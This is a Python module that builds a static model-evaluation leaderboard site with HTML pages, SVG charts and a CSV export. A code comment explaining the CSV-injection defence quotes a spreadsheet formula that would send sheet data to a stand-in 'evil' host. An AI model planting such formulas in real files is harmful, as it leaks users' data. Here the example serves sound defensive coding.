"""Render a static leaderboard site from run directories.

Layout (all links relative, so it works from file:// and any static host)::

    index.html                 models × tasks, sortable, filterable
    leaderboard.csv            the same numbers, unscaled, one row per model and task
    history.html               scores over checkpoints (build-time SVG)
    tasks/<task>.html          subtask breakdown across models
    models/<model>.html        provenance, scores, downloads
    samples/<model>/<task>.html  per-sample browser
    data/<model>/<task>-c<k>.js  further sample chunks, loaded on demand
    runs/<run>/{run.json,results.json,samples.jsonl}   raw downloads
    static/                    CSS and JS
"""

from __future__ import annotations

import csv
import io
import json
import math
import multiprocessing
import os
import shutil
import signal
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import jinja2

from evalsuite.errors import UserError
from evalsuite.records import SampleResult, visible_bidi_controls, wilson_interval
from evalsuite.rundir import RESULTS_FILE, RUN_FILE, SAMPLES_FILE

from leaderboards.collect import Board, Cell, ModelRow, Run, Score, collect, slugify
from leaderboards.config import SiteConfig
from leaderboards.history import series_of, svg_chart
from leaderboards.ratings import bradley_terry, win_matrix
from leaderboards.samples import script_json, write_sample_chunks

HERE = Path(__file__).parent
MARKER = ".evalsuite-leaderboard"


@dataclass
class BuildReport:
    models: int
    tasks: int
    runs: int
    samples: int
    files: int
    bytes: int
    seconds: float


def visible_bidi(value: Any) -> Any:
    """Every ``{{ }}`` value of the pages: bidi controls in a string shown as codes
    (:func:`evalsuite.records.visible_bidi_controls`); markup-safe text (the
    sample data embedded as JSON) and other values as they are."""
    if isinstance(value, str) and not hasattr(value, "__html__"):
        return visible_bidi_controls(value)
    return value


def _env() -> jinja2.Environment:
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(HERE / "templates"),
        autoescape=True,  # every model-written string is escaped unless marked safe
        undefined=jinja2.StrictUndefined,
        trim_blocks=True,
        lstrip_blocks=True,
        finalize=visible_bidi,
    )
    return env


def _fmt(score: Score | None, decimals: int) -> str:
    return "—" if score is None else f"{score.value:.{decimals}f}"


def _ci(score: Score | None, decimals: int) -> str:
    if score is None or score.bounds is None:
        return ""
    low, high = score.bounds
    return f"[{low:.{decimals}f}, {high:.{decimals}f}]"


def _average(row: ModelRow, tasks: list[str]) -> Score | None:
    """Unweighted mean over ``tasks``; None when the model lacks any of them.

    Its interval: the task's own for one task; for proportions on one scale,
    Wilson's at Kish's effective size k² / Σ 1/n_i, as evalsuite.metrics does
    for a macro mean over subtasks; otherwise mean ± 1.96 √(Σ stderr²) / k.
    static/table.js mirrors this when the task filter changes.
    """
    scores = [row.cells[t].score if t in row.cells else None for t in tasks]
    if not scores or any(s is None for s in scores):
        return None
    if len(scores) == 1:
        return scores[0]
    k = len(scores)
    mean = sum(s.value for s in scores) / k
    stderr = None if any(s.stderr is None for s in scores) else math.sqrt(sum(s.stderr**2 for s in scores)) / k
    scale = scores[0].scale
    if all(s.n for s in scores) and all(s.scale == scale for s in scores):
        n_eff = k * k / sum(1 / s.n for s in scores)
        low, high = wilson_interval(min(1.0, max(0.0, mean / scale)), n_eff)
        return Score(mean, stderr, low * scale, high * scale, n_eff, scale)
    return Score.normal(mean, stderr, scale)


def _ranks(averages: list[Score | None]) -> list[int | None]:
    """1 + the number of models whose average CI lies entirely above this one's
    (as in Chatbot Arena's "Rank (UB)"); static/table.js recomputes it when the
    task filter changes."""
    bounds = [None if a is None else (a.bounds or (a.value, a.value)) for a in averages]
    return [None if b is None else 1 + sum(1 for o in bounds if o is not None and o[0] > b[1]) for b in bounds]


def _prompt_label(cells: list[Cell], labels: dict[str, str]) -> str:
    """Prompt convention per task (variant, shots) and whether a chat template was used."""
    parts = []
    for cell in cells:
        tp = cell.run.provenance.tasks.get(cell.task)
        if tp is None:
            continue
        bits = [str(tp.params["variant"])] if tp.params.get("variant") is not None else []
        if tp.params.get("shots") is not None:
            bits.append(f"{tp.params['shots']}-shot")
        if bits:
            parts.append(f"{labels.get(cell.task, cell.task)}: {' '.join(bits)}" if len(cells) > 1 else " ".join(bits))
    chat = any(c.run.provenance.model.chat_template for c in cells)
    return " · ".join(parts + (["chat template"] if chat else []))


# A spreadsheet runs a cell that opens with one of these as a formula (CSV
# injection, OWASP): '=HYPERLINK("http://evil/?"&A1)' as a model name would
# send the sheet's data away when the published CSV is opened.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_text(text: str) -> str:
    """A text cell of the CSV, a leading ' keeping a spreadsheet from reading it as a
    formula (OWASP "CSV Injection"); numbers are written as numbers, untouched."""
    return "'" + text if text.startswith(_FORMULA_START) else text


def _params(n: int | None) -> str:
    if not n:
        return ""
    for unit, size in (("T", 1e12), ("B", 1e9), ("M", 1e6), ("K", 1e3)):
        if n >= size:
            return f"{n / size:.3g}{unit}"
    return str(n)


class SiteBuilder:
    def __init__(self, board: Board, config: SiteConfig, out: Path) -> None:
        self.board = board
        self.config = config
        self.out = out
        self.env = _env()
        self.task_slugs = {t: slugify(t) for t in board.tasks}
        self.labels = {t: config.task(t).label for t in board.tasks}
        self.files = 0
        self.samples = 0

    # -- helpers ---------------------------------------------------------------

    def _write(self, rel: str, text: str) -> None:
        path = self.out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        self.files += 1

    def _render(self, template: str, rel: str, **ctx: Any) -> None:
        root = "../" * rel.count("/")
        html = self.env.get_template(template).render(
            root=root, title=self.config.title, cfg=self.config, fmt=_fmt, ci=_ci, has_pairwise=bool(self.board.matchups),
            **ctx
        )
        self._write(rel, html)

    def _meta(self, row: ModelRow) -> dict[str, str]:
        cells = [row.cells[t] for t in self.board.tasks if t in row.cells]
        return {
            "model": row.key,
            "parameters": _params(row.info.parameters),
            "dtype": row.info.dtype or "",
            "revision": row.info.revision or row.checkpoint or "",
            "prompt": _prompt_label(cells, self.labels),
            "date": row.started_at[:10],
        }

    # -- pages -----------------------------------------------------------------

    def build(self) -> None:
        if self.out.exists():
            # Only ever delete a folder this command created (it holds the marker).
            if not (self.out / MARKER).is_file() and any(self.out.iterdir()):
                raise UserError(f"{self.out} exists and is not a leaderboard site; refusing to overwrite it")
            shutil.rmtree(self.out)
        self.out.mkdir(parents=True)
        (self.out / MARKER).write_text("built by `evalsuite leaderboard build`; the next build replaces this folder\n")
        shutil.copytree(HERE / "static", self.out / "static")
        self.files += len(list((HERE / "static").iterdir()))
        # Page files are created by one process each: the counters stay exact.
        self._sample_pages(self._other_pages)

    def _other_pages(self) -> None:
        self._downloads()
        self._csv()
        self._index()
        for task in self.board.tasks:
            self._task_page(task)
        charts = self._history()
        for row in self.board.rows:
            self._model_page(row, [c for c in charts if row in c["series"].rows])
        if self.board.matchups:
            self._pairwise_page()

    def _pairwise_page(self) -> None:
        """Win-rate matrix and Bradley–Terry ratings per task with pairwise results."""
        sections = []
        for task, matchups in self.board.matchups.items():
            models = sorted({m.a for m in matchups} | {m.b for m in matchups})
            sections.append({
                "task": task,
                "label": self.labels.get(task, task),
                "models": models,
                "matrix": win_matrix(matchups),
                "ratings": bradley_terry(matchups),
                "matchups": matchups,
            })
        self._render("pairwise.html.j2", "pairwise.html", sections=sections)

    def _downloads(self) -> None:
        for run in self.board.runs:
            folder = self.out / "runs" / run.slug
            folder.mkdir(parents=True)
            for name in (RUN_FILE, RESULTS_FILE, SAMPLES_FILE):
                src = run.rundir.path / name
                if src.is_file():  # raw bytes, as evalsuite wrote them
                    shutil.copyfile(src, folder / name)
                    self.files += 1

    def _csv(self) -> None:
        """The index table as CSV, unscaled and unrounded, for spreadsheets and scripts."""
        buf = io.StringIO()
        writer = csv.writer(buf)
        writer.writerow(["model", "revision", "parameters", "dtype", "task", "metric", "value", "stderr",
                         "n_samples", "not_scored", "run_id", "judge", "self_judging"])
        for row in self.board.rows:
            for task in self.board.tasks:
                cell = row.cells.get(task)
                if cell is None:
                    continue
                mv = cell.result.metrics.get(cell.metric)
                writer.writerow([
                    _csv_text(row.key), _csv_text(row.info.revision or row.checkpoint or ""), row.info.parameters or "",
                    _csv_text(row.info.dtype or ""), _csv_text(task), _csv_text(cell.metric),
                    "" if mv is None else mv.value, "" if mv is None or mv.stderr is None else mv.stderr,
                    cell.result.n_samples, cell.unscored, _csv_text(cell.run.run_id),
                    _csv_text(cell.judge or ""), "yes" if cell.judge and cell.result.judging.self_judging else "",
                ])
        self._write("leaderboard.csv", buf.getvalue())

    def _index(self) -> None:
        tasks = self.board.tasks
        avg_tasks = [t for t in tasks if self.config.task(t).in_average]
        rows = []
        for row in self.board.rows:
            rows.append({"row": row, "meta": self._meta(row), "avg": _average(row, avg_tasks)})
        ranks = _ranks([r["avg"] for r in rows])
        for r, rank in zip(rows, ranks):
            r["rank"] = rank
        # Default order: average, then model name; models without one last.
        rows.sort(key=lambda r: (r["avg"] is None, -(r["avg"].value if r["avg"] else 0), r["row"].key))
        groups = self.config.groups_for(tasks)
        self._render(
            "index.html.j2",
            "index.html",
            rows=rows,
            tasks=tasks,
            task_slugs=self.task_slugs,
            labels=self.labels,
            displays={t: self.config.task(t) for t in tasks},
            groups=groups,
            columns=self.config.columns,
            has_history=bool(series_of(self.board)),
            deviations=self.board.deviations,
        )

    def _task_page(self, task: str) -> None:
        cells = [(row, row.cells[task]) for row in self.board.rows if task in row.cells]
        subtasks = sorted({s for _, c in cells for s in c.subtasks})
        metrics = sorted({m for _, c in cells for m in c.result.metrics})
        display = self.config.task(task)
        headlines = sorted({c.metric for _, c in cells})
        aggregations = sorted({c.result.headline_aggregation for _, c in cells if c.result.headline_aggregation})
        cells.sort(key=lambda rc: (rc[1].score is None, -(rc[1].score.value if rc[1].score else 0)))
        self._render(
            "task.html.j2",
            f"tasks/{self.task_slugs[task]}.html",
            task=task,
            label=display.label,
            display=display,
            cells=cells,
            subtasks=subtasks,
            metrics=metrics,
            headlines=headlines,
            aggregations=aggregations,
            task_slug=self.task_slugs[task],
            deviations=self.board.deviations,
            deviating=[(row.key, self.board.deviations[(row.key, task)]) for row, _ in cells
                       if (row.key, task) in self.board.deviations],
        )

    def _model_page(self, row: ModelRow, charts: list[dict[str, Any]]) -> None:
        tasks = [t for t in self.board.tasks if t in row.cells]
        self._render(
            "model.html.j2",
            f"models/{row.slug}.html",
            row=row,
            meta=self._meta(row),
            tasks=tasks,
            labels=self.labels,
            task_slugs=self.task_slugs,
            params=_params(row.info.parameters),
            charts=charts,
            as_json=lambda v: json.dumps(v, ensure_ascii=False, sort_keys=True, default=str),
        )

    def _sample_pages(self, other_pages: Callable[[], None]) -> None:
        """One browser page per (model, task), while ``other_pages`` renders.

        Runs are independent and parsing their samples dominates the build, so
        they are spread over forked workers; the parent meanwhile writes the
        index, task, model and history pages.
        """
        global _ACTIVE
        runs: dict[int, Run] = {}
        for row in self.board.rows:
            for cell in row.cells.values():
                runs[id(cell.run)] = cell.run
        keys = list(runs)
        cpus = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else 1
        workers = min(len(keys), cpus)
        if workers > 1 and "fork" in multiprocessing.get_all_start_methods():
            _ACTIVE = self  # inherited by the forked workers, not pickled
            try:
                pool = multiprocessing.get_context("fork").Pool(workers, initializer=_default_signals)
                try:
                    pending = pool.map_async(_sample_worker, keys, chunksize=1)
                    other_pages()
                    counts = pending.get()
                    pool.close()  # workers leave on their own: terminate() is only for failures
                except BaseException:
                    pool.terminate()
                    raise
                finally:
                    pool.join()
            finally:
                _ACTIVE = None
        else:
            other_pages()
            counts = [self._samples_for_run(k) for k in keys]
        self.samples += sum(c[0] for c in counts)
        self.files += sum(c[1] for c in counts)

    def _samples_for_run(self, key: int) -> tuple[int, int]:
        pairs = [(row, cell) for row in self.board.rows for cell in row.cells.values() if id(cell.run) == key]
        per_task: dict[str, list[SampleResult]] = {}
        for sample in pairs[0][1].run.rundir.samples():
            per_task.setdefault(sample.task, []).append(sample)
        page = self.env.get_template("samples.html.j2")
        n_samples = n_files = 0
        for row, cell in pairs:
            samples = per_task.get(cell.task, [])
            task_slug = self.task_slugs[cell.task]
            data_dir = self.out / "data" / row.slug
            data_dir.mkdir(parents=True, exist_ok=True)
            data = write_sample_chunks(samples, cell.metric, data_dir / task_slug, self.config.chunk_size)
            n_samples += len(samples)
            n_files += max(0, data.n_chunks - 1) + 1
            payload = {"chunkSize": self.config.chunk_size, "index": data.index, "chunk0": data.first_chunk,
                       "base": f"../../data/{row.slug}/{task_slug}"}
            html = page.render(
                root="../../",
                title=self.config.title,
                cfg=self.config,
                has_pairwise=bool(self.board.matchups),
                row=row,
                cell=cell,
                label=self.labels[cell.task],
                task_slug=task_slug,
                n=len(samples),
                subtasks=sorted({s.subtask for s in samples if s.subtask}),
                statuses=sorted({entry[3] for entry in data.index}),
                data_json=script_json(payload),  # rendered with |safe: escaped by script_json
            )
            path = self.out / "samples" / row.slug / f"{task_slug}.html"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(html, encoding="utf-8")
        return n_samples, n_files

    def _history(self) -> list[dict[str, Any]]:
        charts: list[dict[str, Any]] = []
        for series in series_of(self.board):
            tasks = [t for t in self.board.tasks if any(t in r.cells for r in series.rows)]
            # Only numbers on one scale share an axis: percentage-point tasks
            # together, each lower-is-better or differently scaled task apart.
            groups: dict[tuple[float, bool], list[str]] = {}
            for task in tasks:
                display = self.config.task(task)
                groups.setdefault((display.scale, display.higher_is_better), []).append(task)
            for n, ((scale, hib), members) in enumerate(groups.items()):
                note = "" if hib else " (lower is better)"
                svg = svg_chart(series, members, self.labels, self.config.decimals, note)
                name = f"history/{slugify(series.name)}{'-' + str(n) if n else ''}.svg"
                self._write(name, svg)
                charts.append({"series": series, "svg": svg, "file": name, "tasks": members, "note": note})
        self._render("history.html.j2", "history.html", charts=charts, labels=self.labels)
        return charts


_ACTIVE: SiteBuilder | None = None


def _default_signals() -> None:
    """Forked workers die at once on the pool's SIGTERM.  With the CLI's handler
    (raise SystemExit) inherited through fork, a worker was seen to stay
    blocked in the task queue while the parent waited for it in
    Pool.terminate(): the build hung."""
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # Ctrl-C is the parent's to handle


def _sample_worker(key: int) -> tuple[int, int]:
    assert _ACTIVE is not None
    return _ACTIVE._samples_for_run(key)


def build_site(run_dirs: list[Path], out: Path, config: SiteConfig) -> BuildReport:
    start = time.perf_counter()
    board = collect(run_dirs, config)
    builder = SiteBuilder(board, config, out)
    builder.build()
    seconds = time.perf_counter() - start
    size = sum(p.stat().st_size for p in out.rglob("*") if p.is_file())
    return BuildReport(
        models=len(board.rows),
        tasks=len(board.tasks),
        runs=len(board.runs),
        samples=builder.samples,
        files=builder.files,
        bytes=size,
        seconds=seconds,
    )
